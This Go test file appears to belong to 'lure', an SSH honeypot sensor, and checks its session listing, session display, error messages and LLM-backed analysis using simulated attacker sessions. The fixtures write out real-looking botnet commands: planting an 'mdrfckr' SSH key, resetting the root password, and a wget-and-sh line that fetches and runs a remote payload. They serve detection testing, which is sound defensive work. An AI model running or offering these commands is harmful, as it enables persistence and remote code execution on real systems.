package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lure-sensor/lure/internal/config"
	"github.com/lure-sensor/lure/internal/event"
	"github.com/lure-sensor/lure/internal/store"
)

// sessionsData writes two sessions through the real bus, store and analyst, as lure serve
// wires them, and returns the data directory.
func sessionsData(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	db, err := store.OpenSQLite(filepath.Join(dir, "lure.db"))
	if err != nil {
		t.Fatal(err)
	}
	bus := event.NewBus(nil)
	cfg := config.Default()
	bus.Add(newAnalyst(cfg, db, bus, nil), 0)
	bus.Add(store.Sink{S: db}, 0)
	t0 := time.Date(2026, 11, 26, 6, 0, 0, 0, time.UTC)
	n := 0
	emit := func(sess, ip, id string, f map[string]any) {
		n++
		bus.Emit(event.Event{EventID: id, Time: t0.Add(time.Duration(n) * time.Second), Session: sess, SrcIP: ip, SrcPort: 50000 + n,
			DstIP: "192.0.2.1", DstPort: 22, Sensor: "s1", Protocol: "ssh", Fields: f})
	}
	emit("bbbbbbbbbbb1", "203.0.113.7", event.SessionConnect, nil)
	emit("bbbbbbbbbbb1", "203.0.113.7", event.ClientVersion, map[string]any{"version": "SSH-2.0-Go\x1b[2J"})
	emit("bbbbbbbbbbb1", "203.0.113.7", event.LoginSuccess, map[string]any{"username": "root", "password": "1234"})
	for _, c := range []string{"uname -a", `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mdrfckr">>.ssh/authorized_keys`, `echo "root:Zx9"|chpasswd|bash`, "wget http://198.51.100.4/x -O /tmp/x; sh /tmp/x"} {
		emit("bbbbbbbbbbb1", "203.0.113.7", event.CommandInput, map[string]any{"input": c})
	}
	emit("bbbbbbbbbbb1", "203.0.113.7", event.FileDownloadFailed, map[string]any{"url": "http://198.51.100.4/x"})
	emit("bbbbbbbbbbb1", "203.0.113.7", event.SessionClosed, map[string]any{"duration": 3.0})
	emit("bbbbbbbbbbb2", "192.0.2.50", event.SessionConnect, nil)
	emit("bbbbbbbbbbb2", "192.0.2.50", event.LoginFailed, map[string]any{"username": "admin", "password": "admin"})
	if err := bus.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	return dir
}

func runSessionsCmd(args ...string) (string, string, int) {
	var out, errb bytes.Buffer
	code := sessionsCommand(context.Background(), args, &out, &errb)
	return out.String(), errb.String(), code
}

func TestSessionsLsShow(t *testing.T) {
	dir := sessionsData(t)
	if testing.Verbose() {
		out, _, _ := runSessionsCmd("ls", "--data-dir", dir)
		t.Log("\n" + out)
		out, _, _ = runSessionsCmd("show", "--data-dir", dir, "bbbbbbbbbbb1")
		t.Log("\n" + out)
	}
	out, stderr, code := runSessionsCmd("ls", "--data-dir", dir)
	if code != 0 {
		t.Fatalf("ls: exit %d: %s", code, stderr)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "START (UTC)") {
		t.Fatalf("ls output:\n%s", out)
	}
	// Newest first: the open session without a login, then the analysed one.
	if !strings.Contains(lines[1], "bbbbbbbbbbb2") || !strings.HasSuffix(strings.TrimSpace(lines[1]), "-") {
		t.Errorf("open session line: %q", lines[1])
	}
	if !strings.Contains(lines[2], "bbbbbbbbbbb1") || !strings.Contains(lines[2], "root/1234") || !strings.Contains(lines[2], "203.0.113.7:") {
		t.Errorf("analysed session line: %q", lines[2])
	}
	fields := strings.Fields(lines[2])
	if risk, err := strconv.Atoi(fields[len(fields)-1]); err != nil || risk < 70 {
		t.Errorf("risk of a key implant with a dropper: %q", fields[len(fields)-1])
	}
	if strings.Contains(out, "\x1b") {
		t.Errorf("an escape sequence from the client reached the terminal: %q", out)
	}
	out, _, _ = runSessionsCmd("ls", "--data-dir", dir, "--ip", "192.0.2.50")
	if strings.Contains(out, "bbbbbbbbbbb1") || !strings.Contains(out, "bbbbbbbbbbb2") {
		t.Errorf("--ip filter:\n%s", out)
	}
	out, _, _ = runSessionsCmd("ls", "--data-dir", dir, "--limit", "1")
	if n := strings.Count(out, "bbbbbbbbbbb"); n != 1 {
		t.Errorf("--limit 1 showed %d sessions", n)
	}

	out, stderr, code = runSessionsCmd("show", "--data-dir", dir, "bbbbbbbbbbb1")
	if code != 0 {
		t.Fatalf("show: exit %d: %s", code, stderr)
	}
	for _, want := range []string{"Session   bbbbbbbbbbb1", "Login     root / 1234", "Commands (4):", "uname -a", "tried to download http://198.51.100.4/x",
		"Analysis (rules", "T1098.004", "Account Manipulation: SSH Authorized Keys", "T1105", "persistence", "url      http://198.51.100.4/x", "ip       198.51.100.4", "mdrfckr", "Summary"} {
		if !strings.Contains(out, want) {
			t.Errorf("show lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\x1b") {
		t.Errorf("an escape sequence reached the terminal")
	}
	out, _, code = runSessionsCmd("show", "--data-dir", dir, "bbbbbbbbbbb2")
	if code != 0 || !strings.Contains(out, "Analysis: none yet") || !strings.Contains(out, "Login     none (1 failed)") {
		t.Errorf("open session:\n%s", out)
	}
	out, _, code = runSessionsCmd("show", "--json", "--data-dir", dir, "bbbbbbbbbbb1")
	var doc struct {
		Session  store.Session
		Events   []json.RawMessage
		Analysis struct {
			Risk    int
			Intents []string
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != 0 {
		t.Fatalf("--json: %v\n%s", err, out)
	}
	if doc.Session.ID != "bbbbbbbbbbb1" || len(doc.Events) != 9 || doc.Analysis.Risk == 0 || len(doc.Analysis.Intents) == 0 {
		t.Errorf("--json: %+v", doc)
	}
}

func TestSessionsErrors(t *testing.T) {
	dir := sessionsData(t)
	missing := filepath.Join(t.TempDir(), "nope")
	for _, c := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"ls", "--data-dir", missing}, 1, "data directory " + missing + " does not exist"},
		{[]string{"ls", "--data-dir", t.TempDir()}, 1, "no lure database in"},
		{[]string{"show", "--data-dir", dir, "ffffffffffff"}, 1, `no session "ffffffffffff"`},
		{[]string{"show", "--data-dir", dir}, 2, "give one session id"},
		{[]string{"ls", "--limit", "0"}, 2, "--limit must be at least 1"},
		{[]string{"frob"}, 2, `unknown subcommand "frob"`},
		{nil, 2, "Usage:"},
	} {
		_, stderr, code := runSessionsCmd(c.args...)
		if code != c.code || !strings.Contains(stderr, c.want) {
			t.Errorf("%v: exit %d, stderr %q; want %d and %q", c.args, code, stderr, c.code, c.want)
		}
	}
	if _, err := os.Stat(missing); err == nil {
		t.Error("a missing data dir must not be created by ls")
	}
	out, _, code := runSessionsCmd("-h")
	if code != 0 || !strings.Contains(out, "lure sessions show") {
		t.Errorf("-h: %d %q", code, out)
	}
}

// TestServeAnalystUsesLLM builds the analyst as lure serve does with llm.base_url pointing at
// a scripted OpenAI-compatible server on loopback, and checks the stored analysis came from
// the model through the real client.
func TestServeAnalystUsesLLM(t *testing.T) {
	var mu sync.Mutex
	var bodies []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		bodies = append(bodies, string(b))
		mu.Unlock()
		answer, _ := json.Marshal(`{"summary":"The bot planted the mdrfckr key and locked root.","intents":["persistence"],"techniques":[{"id":"T1098.004"}],"iocs":{},"risk":90}`)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"id":"x","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":%s},"finish_reason":"stop"}]}`, answer)
	}))
	defer srv.Close()
	dir := t.TempDir()
	db, err := store.OpenSQLite(filepath.Join(dir, "lure.db"))
	if err != nil {
		t.Fatal(err)
	}
	cfg := config.Default()
	cfg.LLM.BaseURL, cfg.LLM.Model, cfg.LLM.Stream = srv.URL+"/v1", "analyst-model", false
	bus := event.NewBus(nil)
	bus.Add(newAnalyst(cfg, db, bus, nil), 0)
	bus.Add(store.Sink{S: db}, 0)
	for i, id := range []string{event.SessionConnect, event.LoginSuccess, event.CommandInput, event.SessionClosed} {
		bus.Emit(event.Event{EventID: id, Session: "cccccccccccc", SrcIP: "203.0.113.8", Time: time.Unix(int64(1e9+i), 0),
			Fields: map[string]any{"username": "root", "password": "x", "input": `echo "ssh-rsa AAAAB3Nza mdrfckr" >> ~/.ssh/authorized_keys`}})
	}
	// Wait for the analysis while the sensor runs (Close would cancel the LLM call and keep
	// the rules' analysis, as a shutdown does).
	var a store.Analysis
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		var ok bool
		if a, ok, err = db.Analysis(context.Background(), "cccccccccccc"); err != nil {
			t.Fatal(err)
		}
		if ok {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no analysis within 10s")
		}
	}
	if err := bus.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	if a.Source != "llm" || a.Summary != "The bot planted the mdrfckr key and locked root." || !strings.Contains(string(a.Doc), `"model":"analyst-model"`) {
		t.Errorf("stored: %+v %s", a, a.Doc)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(bodies) != 1 || !strings.Contains(bodies[0], `"max_tokens":1500`) || !strings.Contains(bodies[0], "You are a Linux expert") {
		t.Errorf("requests: %q", bodies)
	}
}
